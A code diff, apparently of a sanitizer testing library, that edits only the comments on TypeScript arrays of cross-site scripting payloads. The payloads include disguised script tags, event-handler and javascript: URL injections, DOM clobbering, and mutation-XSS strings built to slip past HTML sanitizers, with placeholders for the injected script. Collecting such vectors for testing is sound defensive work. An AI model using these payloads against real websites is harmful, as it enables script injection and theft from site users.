@@ -1,6 +1,6 @@
-/** Vectors between tags; `xss-vectors.ts` explains their placeholders. */
+/** Vectors between tags. `xss-vectors.ts` explains the placeholders. */
 export const HTML_VECTORS = [
-  // Scripts, as they are and in disguise.
+  // Scripts, plain and disguised.
   `<script>{js}</script>`,
   `<ScRiPt>{js}</sCrIpT>`,
   `<script/x>{js}</script>`,
@@ -56,7 +56,7 @@ export const HTML_VECTORS = [
   `<input type=image src=x onerror={js}>`,
   `<xss onfocus={js} autofocus tabindex=1>x</xss>`,
 
-  // Addresses that the page opens.
+  // Addresses that the page opens or links to.
   `<meta http-equiv=refresh content="0;url={page}">`,
   `<base href="{base}"><script src="a.js"></script>`,
   `<form action="javascript:{js}"><button id=go>x</button></form>`,
@@ -69,14 +69,14 @@ export const HTML_VECTORS = [
   `<svg width=99 height=99><a><animate attributeName=href values="javascript:{js}" /><text id=go y=20>x</text></a></svg>`,
   `<map name=m><area id=go shape=rect coords=0,0,99,99 href="javascript:{js}"></map><img usemap=#m width=99 height=99 src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">`,
 
-  // Names and ids that replace variables which a script reads.
+  // DOM clobbering: names and ids that replace a script's variables.
   `<a id=config></a><a id=config name=file href="{file}"></a><script>const s=document.createElement("script");s.src=config.file;document.body.append(s)</script>`,
   `<form id=application name=fetch><input name=elements></form><img src=x onerror="{js}">`,
   `<a id=xssed href="javascript:{js}"></a><script>location=xssed</script>`,
   `<iframe name=settings srcdoc="<a id=src href='{file}'></a>" onload="import(settings.src)"></iframe>`,
 ];
 
-/** Mutation: HTML that is parsed once, written out, and parsed differently the second time. */
+/** Mutation XSS: HTML that parses differently after it was parsed and serialized once. */
 export const MUTATION_VECTORS = [
   `<noscript>&lt;/noscript&gt;<i title="</noscript><svg onload={js}>"></noscript>`,
   `<noscript><style></noscript><img src=x onerror={js}></style>`,
@@ -113,10 +113,7 @@ export const MUTATION_VECTORS = [
   `<div><a href="/"><table><td><a title="x"><img src=x onerror={js}></table>`,
 ];
 
-/**
- * HTML that runs once a sanitiser without scripts has written it out and a page with scripts
- * parses it.
- */
+/** HTML that runs if it was serialized by a sanitizer without scripts and parsed with scripts. */
 export const REREAD_VECTORS = [
   `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>`,
   `<math><mtext><table><mglyph><style><math><img src onerror={js}>`,
@@ -125,7 +122,7 @@ export const REREAD_VECTORS = [
   `<noscript><style></noscript><img src=x onerror={js}></style></noscript>`,
 ];
 
-/** Made for old browsers, or blocked by Chromium itself. */
+/** For old browsers, or blocked by Chromium itself. */
 export const LEGACY_HTML_VECTORS = [
   `<img src="javascript:{js}">`,
   `<object data="javascript:{js}"></object>`,
